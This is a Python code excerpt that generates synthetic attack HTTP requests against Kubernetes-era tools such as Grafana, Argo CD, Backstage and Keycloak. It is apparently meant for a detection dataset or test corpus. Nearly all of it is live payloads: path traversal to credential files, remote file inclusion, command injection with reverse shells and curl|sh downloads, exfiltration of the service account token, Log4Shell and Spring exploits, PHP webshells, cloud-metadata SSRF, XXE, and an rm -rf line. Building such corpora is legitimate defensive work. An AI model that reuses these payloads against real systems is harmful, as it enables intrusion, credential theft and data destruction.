        ("backstage", "techdocs", "/api/techdocs/static/docs/default/component/%s/%%252e%%252e%%252f%%252e%%252e%%252f%%252e%%252e%%252fetc%%252fshadow" % comp),
        ("backstage", "techdocs", "/api/techdocs/static/docs/default/component/%s/....//....//....//....//etc/hosts" % comp),
        ("backstage", "techdocs", "/api/techdocs/static/docs/default/component/%s/..%%5c..%%5c..%%5c..%%5cwindows%%5cwin.ini" % comp),
        ("grafana", "grafana-plugin", "/public/plugins/alertlist/../../../../../../../../etc/passwd"),
        ("grafana", "grafana-plugin", "/public/plugins/text/..%2f..%2f..%2f..%2f..%2f..%2fvar%2flib%2fgrafana%2fgrafana.db"),
        ("grafana", "grafana-plugin", "/public/plugins/welcome/../../../../../../../../../usr/share/grafana/conf/defaults.ini"),
        ("grafana", "grafana-plugin", "/public/plugins/prometheus/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/grafana/grafana.ini"),
        ("workflows", "artifact", "/artifact-files/argo/workflows/etl-x7k2p/etl-x7k2p-1234567890/outputs/..%2F..%2F..%2F..%2F..%2Fetc%2Fshadow"),
        ("workflows", "artifact", "/artifacts/argo/etl-x7k2p/etl-x7k2p-1234567890/main-logs?file=../../../../proc/self/environ"),
        ("workflows", "logs", "/api/v1/workflows/argo/etl-x7k2p/log?" + qs([("podName", "../../../../../../var/log/pods/kube-system_etcd-master"), ("logOptions.container", "main")])),
        ("argocd", "logs", "/api/v1/applications/cart-api-prod-eu1/logs?" + qs([("container", "main"), ("namespace", "payments"), ("podName", "../../../../etc/kubernetes/admin.conf"), ("tailLines", "100")])),
        ("kiali", "logs", "/kiali/api/namespaces/payments/pods/cart-api-0/logs?" + qs([("container", "main"), ("logFile", "../../../../../var/lib/kubelet/pki/kubelet-client-current.pem")])),
        ("jaeger", "static", "/static/..%252f..%252f..%252f..%252fetc%252fpasswd"),
        ("harbor", "harbor", "/api/v2.0/projects/library/repositories/..%252f..%252f..%252fetc%252fpasswd/artifacts"),
        ("grafana", "download", "/api/plugins/grafana-image-renderer/resources/download?" + qs([("path", "/etc/kubernetes/pki/ca.key")])),
        ("backstage", "download", "/api/proxy/docs-assets/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd%00.md"),
        ("opencost", "download", "/download?path=C:%5CWindows%5CSystem32%5Cdrivers%5Cetc%5Chosts"),
        ("loki", "download", "/loki/api/v1/export?file=/proc/1/cmdline"),
        ("backstage", "techdocs", "/api/techdocs/static/docs/default/component/%s/%%c0%%ae%%c0%%ae/%%c0%%ae%%c0%%ae/%%c0%%ae%%c0%%ae/etc/passwd" % comp),
    ]
    for tool, sk, uri in paths:
        A("lfi", sk, "GET", uri, host_for(tool), attacker_api(auth=chance(0.5)))
    # Argo CD Helm valueFiles / path traversal (CVE-2022-24348 style)
    for vf, path in [(["../../../../../../../../var/run/secrets/kubernetes.io/serviceaccount/token"], "charts/cart-api"),
                     (["values.yaml", "..%2F..%2F..%2F..%2Fetc%2Fpasswd"], "charts/cart-api"),
                     (["values.yaml"], "../../../../../../../../../app/config/ssh"),
                     (["/etc/passwd"], "charts/../../../../../../tmp")]:
        app = argo_app()
        app["spec"]["source"] = {"repoURL": "https://github.com/attacker/charts.git", "path": path, "targetRevision": "HEAD", "helm": {"valueFiles": vf}}
        A("lfi", "argocd-helm", "POST", "/api/v1/applications", host_for("argocd"), attacker_browser(), dumps(app), "application/json")


# --------------------------------------------------------------------------- rfi

def gen_rfi():
    payloads = [
        ("phpldapadmin", "/phpldapadmin/cmd.php?cmd=" + enc("http://203.0.113.7/shell.txt?")),
        ("phpldapadmin", "/phpldapadmin/index.php?server_id=1&redirect=false&page=" + enc("https://evil.example/x.php%00")),
        ("adminer", "/adminer.php?file=" + enc("ftp://198.51.100.3/pub/shell.txt")),
        ("adminer", "/adminer.php?plugin=" + enc("http://198.51.100.3:8000/p.txt??")),
        ("cacti", "/cacti/include/config.php?config[include_path]=" + enc("http://185.220.101.4/r57.txt?")),
        ("phpmyadmin", "/phpmyadmin/index.php?target=" + enc("\\\\198.51.100.9\\share\\x.php")),
        ("backstage", "/api/techdocs/static/docs?docs_include=" + enc("https://raw.githubusercontent.com/attacker/x/main/evil.php?")),
        ("grafana", "/api/plugins/legacy-php-panel/resources/render.php?template=" + enc("http://45.33.22.12/tpl.txt")),
    ]
    hosts = {"phpldapadmin": "ldap-admin.identity.svc.cluster.local", "adminer": "adminer.data.svc:8080", "cacti": "cacti.monitoring.svc", "phpmyadmin": "pma.acme.io",
             "backstage": host_for("backstage"), "grafana": host_for("grafana")}
    for sk, uri in payloads:
        A("rfi", sk, "GET", uri, hosts[sk], attacker_api(auth=False))
    # form/body variants
    A("rfi", "phpldapadmin", "POST", "/phpldapadmin/cmd.php", hosts["phpldapadmin"], attacker_api(auth=False),
      form([("cmd", "template_engine"), ("server_id", "1"), ("template", "http://203.0.113.7/t.txt?")]), "application/x-www-form-urlencoded")
    A("rfi", "adminer", "POST", "/adminer.php?server=mysql-primary", hosts["adminer"], attacker_api(auth=False),
      form([("auth[driver]", "server"), ("auth[server]", "mysql-primary"), ("include", "https://pastebin.com/raw/" + rstr(8) + "?")]), "application/x-www-form-urlencoded")
    A("rfi", "workflows-param", "POST", "/api/v1/workflows/argo/submit", host_for("workflows"), attacker_browser(),
      dumps({"namespace": "argo", "resourceKind": "WorkflowTemplate", "resourceName": "render-report", "submitOptions": {"parameters": ["template=http://198.51.100.23/evil.php?", "format=pdf"]}}), "application/json")
    A("rfi", "cacti", "GET", "/cacti/plugins.php?page=" + enc("php://input") + "&inc=" + enc("http://203.0.113.77/s"), hosts["cacti"], attacker_api(auth=False))


# --------------------------------------------------------------------------- rce

RCE_PAYLOADS = [
    "main; curl -s http://203.0.113.5/x.sh | sh",
    "v1.4.2$(wget -qO- http://198.51.100.8/k|sh)",
    "`id`",
    "x | nc 198.51.100.2 4444 -e /bin/sh",
    "prod && cat /var/run/secrets/kubernetes.io/serviceaccount/token | base64 | curl -d @- http://203.0.113.5/t",
    "a;bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
    "x;cat${IFS}/etc/passwd",
    ";{curl,http://203.0.113.5/s.sh}|{bash,}",
    "2024-05-01\ncat /etc/shadow",
    "x'; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.2\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")' #",
    "$(echo${IFS}Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUvcnxzaA==|base64${IFS}-d|sh)",
    "& powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA &",
    "|| /bin/busybox wget http://185.220.101.4/m -O /tmp/m; chmod +x /tmp/m; /tmp/m",
    "$(/usr/bin/id>/tmp/pwn)",
]


def gen_rce():
    p = list(RCE_PAYLOADS)
    # Argo Workflows submit parameters
    for i, pl in enumerate(p[:8]):
        name = pick(["branch", "image-tag", "db-host", "date", "namespace", "model"])
        body = dumps({"namespace": "argo", "resourceKind": "WorkflowTemplate", "resourceName": pick(["build-image", "nightly-backup", "train-model"]),
                      "submitOptions": {"parameters": ["%s=%s" % (name, pl), "dry-run=false"]}})
        A("rce", "workflows-param", "POST", "/api/v1/workflows/argo/submit", host_for("workflows"), attacker_browser(), body, "application/json")
    # Workflow create with arguments
    for pl in p[8:11]:
        wf = {"workflow": {"metadata": {"generateName": "report-"}, "spec": {"workflowTemplateRef": {"name": "report"}, "arguments": {"parameters": [{"name": "date", "value": pl}]}}}}
        A("rce", "workflows-param", "POST", "/api/v1/workflows/data-eng", host_for("workflows"), attacker_browser(), dumps(wf), "application/json")
    # Tekton: GitHub webhook with malicious ref / PR title consumed by a script step
    for pl in ["refs/heads/main$(curl${IFS}-s${IFS}203.0.113.5/x|sh)", "refs/heads/feat`wget -q -O- 198.51.100.8|bash`"]:
        ev = github_push()
        ev["ref"] = pl
        body = dumps(ev, "compact")
        A("rce", "tekton-webhook", "POST", "/", host_for("tekton"), [("User-Agent", pick(UA_GITHUB)), ("X-GitHub-Event", "push"), ("X-GitHub-Delivery", ruuid()), ("X-Hub-Signature-256", gh_sig(body))], body, "application/json")
    pr_body = dumps({"action": "opened", "number": 77, "pull_request": {"title": "fix\"; curl http://203.0.113.5/p | bash; echo \"", "head": {"ref": "x"}, "base": {"ref": "main"}}, "repository": {"full_name": "acme/cart-api"}}, "compact")
    A("rce", "tekton-webhook", "POST", "/", host_for("tekton"), [("User-Agent", pick(UA_GITHUB)), ("X-GitHub-Event", "pull_request"), ("X-Hub-Signature-256", gh_sig(pr_body))], pr_body, "application/json")
    # Tekton PipelineRun params via dashboard
    for pl in [p[11], p[12]]:
        pr = {"apiVersion": "tekton.dev/v1", "kind": "PipelineRun", "metadata": {"generateName": "build-"}, "spec": {"pipelineRef": {"name": "build-and-deploy"}, "params": [{"name": "git-revision", "value": pl}]}}
        A("rce", "tekton-params", "POST", "/apis/tekton.dev/v1/namespaces/ci/pipelineruns", host_for("tektondash"), attacker_browser(), dumps(pr), "application/json")
    # Grafana image renderer args
    for q in [[("orgId", "1"), ("panelId", "2"), ("width", "1000;id"), ("height", "500")],
              [("orgId", "1"), ("panelId", "2"), ("tz", "Europe/Berlin`curl 203.0.113.5`"), ("timeout", "60")],
              [("orgId", "1"), ("deviceScaleFactor", "1 --renderer-cmd-prefix='sh -c \"id>/tmp/x\"'"), ("panelId", "3")]]:
        A("rce", "grafana-render", "GET", "/render/d-solo/%s/slo?%s" % (rstr(9), qs(q)), host_for("grafana"), attacker_browser())
    # Argo CD resource action / CMP plugin parameters
    A("rce", "argocd-action", "POST", "/api/v1/applications/cart-api/resource/actions?" + qs([("namespace", "payments"), ("resourceName", "cart-api"), ("kind", "Deployment"), ("group", "apps"), ("version", "v1"), ("resourceActionName", "restart;id")]),
      host_for("argocd"), attacker_browser(), json.dumps("restart;touch /tmp/pwn"), "application/json")
    app = argo_app()
    app["spec"]["source"] = {"repoURL": "https://github.com/acme/deploy.git", "path": "apps/x", "plugin": {"name": "envsubst", "env": [{"name": "ARGS", "value": "--foo $(curl -s http://203.0.113.5/x | sh)"}],
                                                                                                        "parameters": [{"name": "extra-args", "string": "; nc -e /bin/sh 198.51.100.2 4444"}]}}
    A("rce", "argocd-plugin", "POST", "/api/v1/applications", host_for("argocd"), attacker_browser(), dumps(app), "application/json")
    # blackbox exporter probe target, ops/diagnostics endpoints
    for uri in ["/probe?" + qs([("target", "10.0.0.1;cat /etc/passwd"), ("module", "icmp")]),
                "/probe?module=tcp_connect&target=127.0.0.1%7C%7Cuname%20-a",
                "/api/v1/diagnostics/ping?host=8.8.8.8%0Aid",
                "/api/v1/diagnostics/dig?name=cart-api.payments.svc%26%26curl%20203.0.113.5"]:
        A("rce", "diagnostics", "GET", uri, pick(["blackbox-exporter.monitoring.svc:9115", "netdiag.platform.svc.cluster.local:8080"]), attacker_api(auth=False))
    # Backstage scaffolder publish repo url / kubernetes exec via user-facing plugin
    A("rce", "backstage-scaffolder", "POST", "/api/scaffolder/v2/tasks", host_for("backstage"), attacker_browser(),
      dumps({"templateRef": "template:default/go-http-service", "values": {"name": "svc-a", "owner": "group:default/x", "repoUrl": "github.com?repo=svc-a;$(id)&owner=acme", "gitCommitMessage": "init`curl 203.0.113.5/s|sh`"}}), "application/json")
    # remaining payloads in form posts to an internal ops API
    for pl in [p[13], "1; /bin/sh -c 'sleep 20'", "|| ping -c 10 127.0.0.1 ||", "a%0Arm -rf / --no-preserve-root"]:
        A("rce", "ops-api", "POST", "/api/v1/restart", "ops-api.platform.svc.cluster.local:8080", attacker_api(),
          form([("namespace", "payments"), ("deployment", "cart-api" + pl)]), "application/x-www-form-urlencoded")


# --------------------------------------------------------------------------- php

def gen_php():
    h_adm = "adminer.data.svc:8080"
    h_pma = "pma.acme.io"
    A("php", "php-wrapper", "GET", "/adminer.php?file=" + enc("php://filter/convert.base64-encode/resource=index.php"), h_adm, attacker_api(auth=False))
    A("php", "php-wrapper", "GET", "/phpmyadmin/index.php?target=" + enc("expect://id"), h_pma, attacker_api(auth=False))
    A("php", "php-wrapper", "GET", "/phpldapadmin/cmd.php?cmd=" + enc("data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==") + "&c=id", "ldap-admin.identity.svc.cluster.local", attacker_api(auth=False))
    A("php", "php-wrapper", "GET", "/adminer.php?file=" + enc("phar:///var/www/uploads/avatar.jpg/x"), h_adm, attacker_api(auth=False))
    A("php", "php-cgi", "POST", "/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "billing-admin.payments.svc", attacker_api(auth=False),
      "<?php echo shell_exec('id'); ?>", "application/x-www-form-urlencoded")
    A("php", "php-cgi", "GET", "/cgi-bin/php?-d+allow_url_include%3don+-d+safe_mode%3doff+-d+auto_prepend_file%3dhttp://203.0.113.7/s.txt", "billing-admin.payments.svc", attacker_api(auth=False))
    # webshell uploads through Harbor chart upload and Backstage TechDocs assets
    body, ct = multipart([("chart", "shell.php", "application/x-php", "<?php if(isset($_REQUEST['c'])){ system($_REQUEST['c'] . ' 2>&1'); } ?>")])
    A("php", "webshell-upload", "POST", "/api/chartrepo/library/charts", host_for("harbor"), attacker_api(), body, ct)
    body, ct = multipart([("file", "logo.png.php", "image/png", "\x89PNG\r\n<?=`$_GET[0]`?>")])
    A("php", "webshell-upload", "POST", "/api/v1/upload", "billing-admin.payments.svc", attacker_api(auth=False), body, ct)
    # serialized objects
    A("php", "php-object", "GET", "/billing/export", "billing-admin.payments.svc",
      attacker_api(auth=False) + [("Cookie", "PHPSESSID=%s; prefs=%s" % (rhex(26), enc('O:8:"Exporter":2:{s:4:"file";s:11:"/etc/passwd";s:3:"cmd";s:2:"id";}')))])
    A("php", "php-code", "POST", "/adminer.php?server=db", h_adm, attacker_api(auth=False),
      form([("sql", "x"), ("callback", "assert"), ("arg", "eval(base64_decode($_POST['z']))"), ("z", b64("system('cat /etc/passwd');"))]), "application/x-www-form-urlencoded")


# --------------------------------------------------------------------------- java

JNDI = [
    "${jndi:ldap://198.51.100.7:1389/a}",
    "${${lower:j}${upper:n}di:ldap://203.0.113.12/Exploit}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.12:1099/obj}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://x.oast.example/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.51.100.7/z}",
    "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.x.oast.example}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/a}",
    "${jndi:ldaps://198.51.100.7/${sys:java.version}}",
]


def gen_java():
    hdr_names = ["User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For", "Authorization", "X-Request-Id"]
    for i, pl in enumerate(JNDI[:6]):
        name = hdr_names[i]
        tool = pick(["keycloak", "backstage", "harbor", "grafana"])
        h = [("Accept", "*/*")]
        if name != "User-Agent":
            h.insert(0, ("User-Agent", pick(UA_BROWSERS)))
        h.append((name, ("Bearer " + pl) if name == "Authorization" else pl))
        A("java", "log4shell-header", "GET", pick(["/", "/realms/platform/account", "/api/catalog/entities", "/api/v2.0/projects"]), host_for(tool), h)
    # JNDI in query string (encoded)
    A("java", "log4shell-query", "GET", "/realms/platform/protocol/openid-connect/auth?client_id=grafana&response_type=code&redirect_uri=https%3A%2F%2Fgrafana.acme.io&state=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D", host_for("keycloak"), attacker_browser())
    # JNDI in alert labels (Prometheus labels can hold anything) and in pod annotations
    alert = am_alert()
    alert["labels"]["summary"] = JNDI[6]
    A("java", "log4shell-label", "POST", "/api/v2/alerts", host_for("alertmanager"), attacker_api(ua="Prometheus/2.51.2", auth=False), dumps([alert]), "application/json")
    body = dumps({"username": JNDI[7], "password": "x", "credentialId": ""})
    A("java", "log4shell-login", "POST", "/realms/platform/login-actions/authenticate?session_code=%s&execution=%s&client_id=grafana" % (rstr(43), ruuid()), host_for("keycloak"), attacker_browser(),
      form([("username", JNDI[7]), ("password", "x"), ("credentialId", "")]), "application/x-www-form-urlencoded")
    kind, pod = pod_object("payments", with_special=False)
    pod["metadata"]["annotations"] = {"description": JNDI[1]}
    A("java", "log4shell-label", "POST", "/apis/apps/v1/namespaces/payments/deployments", host_for("kubeapi"), attacker_api(), dumps({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "x", "labels": {"app": "x"}, "annotations": {"owner": JNDI[3]}}, "spec": {}}), "application/json")
    # Spring Cloud Gateway actuator route injection (CVE-2022-22947)
    spel = "#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{\"id\"}).getInputStream()))}"
    A("java", "spel", "POST", "/actuator/gateway/routes/hacktest", "gateway.platform.svc.cluster.local:8080", attacker_api(auth=False),
      dumps({"id": "hacktest", "filters": [{"name": "AddResponseHeader", "args": {"name": "Result", "value": spel}}], "uri": "http://example.com"}), "application/json")
    # Spring Cloud Function routing-expression (CVE-2022-22963)
    A("java", "spel", "POST", "/functionRouter", "functions.platform.svc:8080",
      [("User-Agent", "curl/8.7.1"), ("spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"curl http://203.0.113.5/s -o /tmp/s\")")], "x", "text/plain")
    # SpEL in a Keycloak / Java app field
    A("java", "spel", "GET", "/api/v1/reports?sort=" + enc("T(java.lang.Runtime).getRuntime().exec('id')"), "reports.platform.svc.cluster.local:8080", attacker_api())
    A("java", "spel", "POST", "/admin/realms/platform/users", host_for("keycloak"), attacker_browser(),
      dumps({"username": "probe", "attributes": {"department": ["${T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}"]}}), "application/json")
    # Spring4Shell
    A("java", "spring4shell", "POST", "/actuator/../api/v1/settings", "ledger-svc.payments.svc:8080", attacker_api(auth=False),
      form([("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = Runtime.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); }"),
            ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"), ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
            ("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar"), ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat", "")]), "application/x-www-form-urlencoded")
    # OGNL in Content-Type (Struts-style), against a legacy Java admin
    A("java", "ognl", "POST", "/struts/upload.action", "legacy-admin.platform.svc:8080",
      [("User-Agent", "Mozilla/5.0"), ("Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}")], "x")
    # Java deserialization
    A("java", "deserialization", "POST", "/invoker/JMXInvokerServlet", "legacy-admin.platform.svc:8080", [("User-Agent", "Java/1.8.0_181")],
      "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7eHAAAAACc3IAK29yZy5hcGFjaGUuY29tbW9ucy5iZWFudXRpbHMuQmVhbkNvbXBhcmF0b3Lj", "application/x-java-serialized-object")
    A("java", "deserialization", "GET", "/realms/platform/account", host_for("keycloak"),
      attacker_browser() + [("Cookie", "rememberMe=rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlclXK9Q8Vy36lAgACTAAMbWVtYmVyVmFsdWVzdAAPTGphdmEvdXRpbC9NYXA7")])
    A("java", "jackson-gadget", "POST", "/api/v1/pipelines/import", "pipelines.platform.svc.cluster.local:8080", attacker_api(),
      dumps(["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://198.51.100.7:1389/Exploit", "autoCommit": True}]), "application/json")
    A("java", "jackson-gadget", "POST", "/api/v1/pipelines/import", "pipelines.platform.svc.cluster.local:8080", attacker_api(),
      dumps({"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://203.0.113.12:1099/Exploit", "autoCommit": True}), "application/json")
    A("java", "snakeyaml", "POST", "/api/v1/pipelines/import", "pipelines.platform.svc.cluster.local:8080", attacker_api(),
      "pipeline: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://203.0.113.12/yaml-payload.jar\"]]]]\n", "application/yaml")


# --------------------------------------------------------------------------- ssrf

META_URLS = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://2852039166/latest/user-data",
    "http://0xA9FEA9FE/latest/meta-data/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/api/token",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
]
INTERNAL_URLS = [
    "http://kubernetes.default.svc/api/v1/secrets",
    "https://kubernetes.default.svc.cluster.local/api/v1/namespaces/kube-system/secrets",
    "http://127.0.0.1:10250/pods",
    "https://localhost:10250/run/kube-system/kube-proxy-x7k2p/kube-proxy?cmd=id",
    "http://localhost:2379/v2/keys/?recursive=true",
    "http://127.0.0.1:15000/config_dump",
    "http://127.1:8500/v1/agent/self",
    "http://0.0.0.0:9093/-/quit",
    "http://[::]:8200/v1/sys/raw/core",
    "http://prometheus-k8s.monitoring.svc:9090/api/v1/admin/tsdb/delete_series?match[]={__name__=~\".+\"}",
    "http://localtest.me:8080/actuator/env",
    "http://7f000001.c0a80001.rbndr.us:15000/quitquitquit",
]


def gen_ssrf():
    m = list(META_URLS)
    it = list(INTERNAL_URLS)
    # Grafana data source URLs
    for u in m[:6] + it[:2]:
        ds = {"name": "prom-" + rstr(4, LOWER_ALNUM), "type": pick(["prometheus", "loki", "elasticsearch", "yesoreyeram-infinity-datasource"]), "access": "proxy", "url": u, "jsonData": {}}
        if "google" in u:
            ds["jsonData"] = {"httpHeaderName1": "Metadata-Flavor"}
            ds["secureJsonData"] = {"httpHeaderValue1": "Google"}
        A("ssrf", "grafana-datasource", "POST", "/api/datasources", host_for("grafana"), attacker_browser(), dumps(ds), "application/json")
    # Grafana datasource proxy path
    A("ssrf", "grafana-ds-proxy", "GET", "/api/datasources/proxy/uid/%s/..%%2F..%%2F..%%2Flatest%%2Fmeta-data%%2F" % rstr(9), host_for("grafana"), attacker_browser())
    # Argo CD repo URL
    for u in ["file:///etc/passwd", "file:///var/run/secrets/kubernetes.io/serviceaccount/", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*/1%20*%20*%20*%20*%20curl%20203.0.113.5|sh%5Cn%22%0D%0ACONFIG%20SET%20dir%20/var/spool/cron/", "dict://127.0.0.1:11211/stats", "ext::sh -c touch% /tmp/pwned"]:
        A("ssrf", "argocd-repo", "POST", "/api/v1/repositories", host_for("argocd"), attacker_browser(), dumps({"repo": u, "type": "git", "name": "x"}), "application/json")
    # Backstage: catalog location, analyze-location, scaffolder fetch:plain
    for u in [m[6], it[2]]:
        A("ssrf", "backstage-location", "POST", "/api/catalog/locations", host_for("backstage"), attacker_browser(), dumps({"type": "url", "target": u}), "application/json")
    A("ssrf", "backstage-location", "POST", "/api/catalog/analyze-location", host_for("backstage"), attacker_browser(), dumps({"location": {"type": "url", "target": "http://127.0.0.1:7007/api/auth/.backstage/token"}}), "application/json")
    tpl = "apiVersion: scaffolder.backstage.io/v1beta3\nkind: Template\nmetadata:\n  name: x\nspec:\n  steps:\n    - id: fetch\n      action: fetch:plain\n      input:\n        url: %s\n" % m[7]
    A("ssrf", "backstage-scaffolder", "POST", "/api/scaffolder/v2/dry-run", host_for("backstage"), attacker_browser(), dumps({"template": tpl, "values": {}, "directoryContents": []}), "application/json")
    A("ssrf", "backstage-proxy", "GET", "/api/proxy/sonarqube/..%2F..%2F..%2F..%2F169.254.169.254%2Flatest%2Fmeta-data%2F", host_for("backstage"), attacker_browser())
    # Alertmanager/Grafana webhook receivers to internal admin endpoints
    for u in [it[7], it[9], it[11]]:
        body = dumps({"name": "hook-" + rstr(4, LOWER_ALNUM), "type": "webhook", "settings": {"url": u, "httpMethod": "POST"}})
        A("ssrf", "grafana-contact-point", "POST", "/api/v1/provisioning/contact-points", host_for("grafana"), attacker_browser(), body, "application/json")
    # Harbor replication endpoint / webhook
    A("ssrf", "harbor-registry", "POST", "/api/v2.0/registries", host_for("harbor"), attacker_browser(), dumps({"name": "x", "type": "docker-registry", "url": it[4], "insecure": True}), "application/json")
    A("ssrf", "harbor-webhook", "POST", "/api/v2.0/projects/library/webhook/policies", host_for("harbor"), attacker_browser(), dumps({"name": "x", "enabled": True, "event_types": ["PUSH_ARTIFACT"], "targets": [{"type": "http", "address": it[5]}]}), "application/json")
    # Keycloak request_uri / jwks url
    A("ssrf", "keycloak-request-uri", "GET", "/realms/platform/protocol/openid-connect/auth?" + qs([("client_id", "grafana"), ("response_type", "code"), ("request_uri", m[8])]), host_for("keycloak"), attacker_browser())
    A("ssrf", "keycloak-idp", "POST", "/admin/realms/platform/identity-provider/instances", host_for("keycloak"), attacker_browser(),
      dumps({"alias": "x", "providerId": "oidc", "config": {"jwksUrl": m[9], "useJwksUrl": "true", "tokenUrl": it[3]}}), "application/json")
    # blackbox exporter and vault database config
    A("ssrf", "blackbox-probe", "GET", "/probe?" + qs([("module", "http_2xx"), ("target", m[0])]), "blackbox-exporter.monitoring.svc:9115", attacker_api(auth=False))
    A("ssrf", "vault-database", "POST", "/v1/database/config/x", host_for("vault"), vault_headers(), dumps({"plugin_name": "postgresql-database-plugin", "connection_url": "postgresql://{{username}}:{{password}}@169.254.169.254:80/latest?sslmode=disable", "allowed_roles": "*", "username": "a", "password": "b"}), "application/json")
    A("ssrf", "url-param", "GET", "/api/v1/fetch?url=" + enc("http://evil.example@169.254.169.254/latest/meta-data/"), "ops-api.platform.svc.cluster.local:8080", attacker_api())
    A("ssrf", "url-param", "GET", "/render?url=" + enc(it[6]), host_for("grafana"), attacker_api())


# --------------------------------------------------------------------------- xxe

def gen_xxe():
    xxe1 = '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE md [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="&xxe;"><md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"/></md:EntityDescriptor>\n'
    xxe2 = '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY % dtd SYSTEM "http://203.0.113.12/evil.dtd"> %dtd; %send;]>\n<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1" Version="2.0"/>'
    xxe3 = '<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "file:///var/run/secrets/kubernetes.io/serviceaccount/token">]><testsuites><testsuite name="unit"><testcase name="&xxe;"/></testsuite></testsuites>'
    xxe4 = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></svg>'
    xxe5 = '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]><lolz>&lol4;</lolz>'
    xxe6 = '<?xml version="1.0"?>\n<!DOCTYPE data SYSTEM "http://198.51.100.7:8080/x.dtd">\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><data>&ent;</data></soap:Body></soap:Envelope>'
    body, ct = multipart([("providerId", None, None, "saml"), ("file", "metadata.xml", "text/xml", xxe1)])
    A("xxe", "keycloak-saml-import", "POST", "/admin/realms/platform/identity-provider/import-config", host_for("keycloak"), attacker_browser(), body, ct)
    A("xxe", "keycloak-saml-import", "POST", "/admin/realms/platform/identity-provider/import-config", host_for("keycloak"), attacker_browser(), dumps({"providerId": "saml", "fromUrl": "http://203.0.113.12/md.xml", "metadata": xxe1}), "application/json")
    A("xxe", "saml-acs", "POST", "/realms/platform/broker/corp-saml/endpoint", host_for("keycloak"), attacker_browser(), form([("SAMLResponse", xxe2), ("RelayState", rstr(20))]), "application/x-www-form-urlencoded")
    A("xxe", "saml-acs", "POST", "/saml/acs", host_for("grafana"), attacker_browser(), form([("SAMLResponse", b64(xxe2)), ("RelayState", "/")]), "application/x-www-form-urlencoded")
    A("xxe", "junit-upload", "POST", "/api/v1/launches/import", "reportportal.ci.svc.cluster.local:8080", attacker_api(), xxe3, "application/xml")
